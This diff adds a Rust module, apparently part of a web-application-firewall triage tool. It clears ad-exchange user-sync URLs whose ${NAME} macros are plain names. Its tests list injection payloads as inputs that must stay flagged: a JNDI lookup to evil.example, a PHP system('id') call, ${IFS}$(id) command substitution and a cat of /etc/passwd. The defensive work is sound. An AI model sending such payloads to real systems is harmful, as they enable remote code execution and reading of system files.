@@ -1,0 +1,92 @@
+//! Macros in a URL carried as a parameter. Ad exchanges and data platforms sync their user ids by redirecting the
+//! browser from one to the next: each passes the next one's URL along with a placeholder it fills in before it
+//! redirects (`partner_url=http://dpm.demdex.net/ibs:dpid=540&dpuuid=${TA_DEVICE_ID}`, `google_hm=${BASE64_UID_ENC}`,
+//! `provider_id=${profile_id}`), and pages load a dozen such syncs. `${NAME}` is also how a shell expands a variable
+//! and how PHP reads one inside a string, so CRS's rules for both (932130, 933135) flag every sync. In a URL whose
+//! every `${...}` holds a plain name, nothing runs: no command, no call, no lookup (`${jndi:...}`), only a name.
+//! (A placeholder that is a whole value, `put=${UID}` of a sync URL sent unencoded, still counts: there it is
+//! what CRS's tests of both families send.)
+
+use super::Shape;
+use super::shape::data_shape;
+use std::borrow::Cow;
+
+/// Why the `${...}` the pattern hit (`hit`) are a URL's macros: each of the value's `decoded` forms is an `http(s)`
+/// URL once its `${NAME}` placeholders are read as names, with no other `$`.
+pub fn placeholders(hit: &[u8], decoded: &[Cow<'_, [u8]>]) -> Option<String> {
+    memchr::memmem::find(hit, b"${")?;
+    decoded
+        .iter()
+        .all(|form| {
+            names_for_macros(form).is_some_and(|url| {
+                !url.contains(&b'$') && data_shape(&url) == Some(Shape::Url)
+            })
+        })
+        .then(|| {
+            "`${...}` are macros of a URL passed on for a redirect (an ad exchange's user sync), plain names \
+             the next server fills in: no command, call or lookup"
+                .to_owned()
+        })
+}
+
+/// `value` with each `${NAME}` (a letter or `_`, then letters, digits and `_`) written as `NAME`; None when a
+/// `${` holds anything else.
+fn names_for_macros(value: &[u8]) -> Option<Vec<u8>> {
+    let mut out = Vec::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(start) = memchr::memmem::find(rest, b"${") {
+        out.extend_from_slice(&rest[..start]);
+        let inside = &rest[start + 2..];
+        let end = inside.iter().position(|&b| b == b'}')?;
+        let name = &inside[..end];
+        let plain = name
+            .first()
+            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
+            && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_');
+        if !plain {
+            return None;
+        }
+        out.extend_from_slice(name);
+        rest = &inside[end + 1..];
+    }
+    out.extend_from_slice(rest);
+    Some(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn judged(value: &str) -> bool {
+        placeholders(b"${x}", &[Cow::Borrowed(value.as_bytes())]).is_some()
+    }
+
+    #[test]
+    fn a_sync_url_with_placeholders_runs_nothing() {
+        assert!(judged(
+            "http://dpm.demdex.net/ibs:dpid=540&dpuuid=${TA_DEVICE_ID}"
+        ));
+        assert!(judged(
+            "https://cm.g.doubleclick.net/pixel?google_nid=a&google_hm=${BASE64_UID_ENC}&google_cm"
+        ));
+        assert!(judged(
+            "https://x.skimresources.com/?provider=lotame&provider_id=${profile_id}"
+        ));
+    }
+
+    #[test]
+    fn anything_but_a_name_in_braces_or_outside_a_url_counts() {
+        assert!(!judged("http://a.example/?u=${jndi:ldap://evil.example/a}"));
+        assert!(!judged("http://a.example/?u=${system('id')}"));
+        assert!(!judged("http://a.example/?u=${IFS}$(id)"));
+        assert!(!judged(";cat${IFS}/etc/passwd"));
+        assert!(!judged("${UUID}"));
+        assert!(
+            placeholders(
+                b"$(id)",
+                &[Cow::Borrowed(b"http://a.example/?u=${UUID}".as_slice())]
+            )
+            .is_none()
+        );
+    }
+}
